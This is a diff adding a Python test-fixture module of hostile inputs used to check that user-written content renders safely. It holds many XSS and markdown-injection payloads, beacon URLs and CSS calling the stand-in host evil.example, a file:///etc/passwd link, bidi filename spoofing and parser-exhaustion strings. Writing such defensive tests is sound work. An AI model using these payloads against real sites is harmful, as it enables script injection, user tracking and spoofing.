@@ -1,0 +1,111 @@
+"""What somebody who means harm would write: every place that shows what others wrote is tried with it."""
+
+__all__ = ["PICTURE", "STYLES", "TEXTS", "URLS"]
+
+# What a script would have to do to be noticed: it calls `pwned()`.
+TEXTS = {
+    "script element": "<script>pwned(1)</script>",
+    "script in the midst": "Hello <script>pwned(1)</script> there",
+    "broken script": '<<script>pwned(1)//<</script>',
+    "image handler": "<img src=x onerror=pwned(1)>",
+    "svg handler": "<svg onload=pwned(1)><animate onbegin=pwned(1) attributeName=x dur=1s>",
+    "svg in data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKDEpIi8+)",
+    "iframe": '<iframe src="javascript:parent.pwned(1)"></iframe>',
+    "iframe with a document": '<iframe srcdoc="<script>parent.pwned(1)</script>"></iframe>',
+    "form": '<form action="javascript:pwned(1)"><button autofocus onfocus=pwned(1)>x</button></form>',
+    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    "base": '<base href="https://evil.example/">',
+    "object": '<object data="javascript:pwned(1)"></object><embed src="javascript:pwned(1)">',
+    "style element": "<style>*{display:none!important}</style>",
+    "style attribute": '<div style="position:fixed;inset:0;background:url(https://evil.example/b)">x</div>',
+    "stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
+    "math": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src onerror=pwned(1)&gt;\">",
+    "javascript link": "[click](javascript:pwned(1))",
+    "javascript link, cased": "[click](JaVaScRiPt:pwned(1))",
+    "javascript link, entity": "[click](&#106;avascript:pwned(1))",
+    "javascript link, tab": "[click](java&Tab;script:pwned(1))",
+    "javascript link, newline": "[click](<java\nscript:pwned(1)>)",
+    "javascript link, control": "[click](\x01javascript:pwned(1))",
+    "javascript autolink": "<javascript:pwned(1)>",
+    "javascript reference": "[click]\n\n[click]: javascript:pwned(1)",
+    "vbscript link": "[click](vbscript:pwned(1))",
+    "data link": "[click](data:text/html,<script>opener.pwned(1)</script>)",
+    "blob link": "[click](blob:https://evil.example/1)",
+    "file link": "[click](file:///etc/passwd)",
+    "quote in title": '[click](https://evil.example "x\\" onmouseover=\\"pwned(1)")',
+    "quote in alt": '![x" onerror="pwned(1)](https://evil.example/beacon.png)',
+    "image beacon": "![x](https://evil.example/beacon.png?who=ada)",
+    "image beacon, no scheme": "![x](//evil.example/beacon.png)",
+    "image beacon in link": "[![x](https://evil.example/beacon.png)](https://evil.example)",
+    "image beacon in table": "| ![x](https://evil.example/beacon.png) |\n|---|\n| x |",
+    "code fence language": '```"><img src=x onerror=pwned(1)>\ncode\n```',
+    "code with markup": "```html\n<script>pwned(1)</script>\n```",
+    "deep quotes": "> " * 300 + "deep",
+    "deep lists": "\n".join("  " * depth + "- x" for depth in range(120)),
+    "deep emphasis": "*" * 2000 + "x" + "*" * 2000,
+    "open brackets": "[" * 5000,
+    "bidi override": "abc\u202egnp.exe\u202c and \u2066isolated\u2069",
+    "zero width": "pay\u200bpal\ufeff \u00ad",
+    "object replacement": "x\ufffc\ufdd0\ufffcy \uffff",
+    "null and controls": "a\x00b\x07c\x1bd",
+    "bidi, not closed": "abc\u202egnp.exe",
+    "bidi isolate, not closed": "\u2067abc (1)",
+    "bidi, closed too often": "abc\u2069\u2069\u202c\u202egnp.exe",
+    "long word": "W" * 3000,
+    "zalgo": "".join(each + "\u0310\u0336\u0320\u033a\u0489\u0353" * 20 for each in "zalgo"),
+    "many lines": "line\n" * 200,
+    "escaped script": "&lt;script&gt;pwned(1)&lt;/script&gt;",
+    "script in svg": '<svg><script>pwned(1)</script><a xlink:href="javascript:pwned(1)"><text>click</text></a></svg>',
+    "use in svg": '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned(1)/>#x"/></svg>',
+    "import in style": "<style>@import 'https://evil.example/x.css';</style>",
+    "javascript link, named entity": "[click](javascript&colon;pwned(1))",
+    "javascript link, hexadecimal": "[click](&#x6A;&#x61;vascript&#58;pwned(1))",
+    "link without a scheme": "[click](//evil.example/x) [click](\\\\evil.example\\x)",
+    "quote in autolink": '<https://evil.example/"onmouseover="pwned(1)>',
+    "markup in a footnote": "x[^1]\n\n[^1]: <img src=x onerror=pwned(1)> [click](javascript:pwned(1))",
+    "script in math": "$$\\href{javascript:pwned(1)}{click} \\htmlData{onclick=pwned(1)}{x}$$",
+    "picture in math": "$$\\includegraphics{https://evil.example/beacon.png}$$",
+    "math without end": "$$" + "{" * 2000,
+    "markup in a diagram": '```mermaid\ngraph TD; A["<img src=x onerror=pwned(1)>"]; click A "javascript:x()"\n```',
+    "template": "{{constructor.constructor('pwned(1)')()}} ${pwned(1)}",
+    "prototype": "__proto__ constructor toString",
+}  # fmt: skip
+
+URLS = (
+    "javascript:pwned(1)",
+    " javascript:pwned(1)",
+    "java\tscript:pwned(1)",
+    "JaVaScRiPt:pwned(1)",
+    "\x01javascript:pwned(1)",
+    "vbscript:pwned(1)",
+    "data:text/html,<script>pwned(1)</script>",
+    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned(1)'/>",
+    "https://evil.example/beacon.png",
+    "//evil.example/beacon.png",
+    "\\\\evil.example\\beacon.png",
+    "https://127.0.0.1@evil.example/beacon.png",
+    "blob:https://evil.example/1",
+    "file:///etc/passwd",
+)
+"""Addresses that lead somewhere else, or to a script."""
+
+STYLES = (
+    "red;position:fixed;inset:0;background:url(https://evil.example/beacon)",
+    "url(https://evil.example/beacon)",
+    "var(--x, url(https://evil.example/beacon))",
+    "image-set('https://evil.example/beacon' 1x)",
+    "\\75rl(https://evil.example/beacon)",
+    "expression(pwned(1))",
+    "}*{display:none!important}",
+    "100000px",
+    "-100000px",
+    "calc(1px * 99999999)",
+    "1e9",
+)
+"""Colours and sizes that are none, or would cover the page."""
+
+PICTURE = (
+    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5E"
+    "rkJggg=="
+)
+"""One pixel."""
